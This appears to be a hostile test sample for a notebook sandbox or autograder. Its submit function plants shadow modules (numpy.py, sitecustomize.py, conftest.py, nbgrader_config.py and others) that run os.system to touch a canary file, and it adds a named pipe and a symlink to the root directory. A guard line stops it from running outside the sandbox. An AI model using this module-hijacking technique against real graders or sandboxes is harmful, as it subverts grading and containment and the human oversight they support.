"""Files beside the notebook.

numpy.py, sitecustomize.py and a kernel, so that they are loaded instead of the real ones.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% submit
import os

import nbformat


def submit(notebook, path):
    """Write modules that accept everything, a pipe and a link."""
    for name in (
        "numpy.py",
        "torch.py",
        "nbgrader.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
    ):
        path.with_name(name).write_text(
            "import os\nos.system('touch /tmp/@TOKEN@')\nraise SystemExit\n"
        )
    path.with_name("nbgrader_config.py").write_text("import os\nos.system('touch /tmp/@TOKEN@')\n")
    os.mkfifo(path.with_name("pipe"))
    path.with_name("link").symlink_to("/")
    nbformat.write(notebook, path)
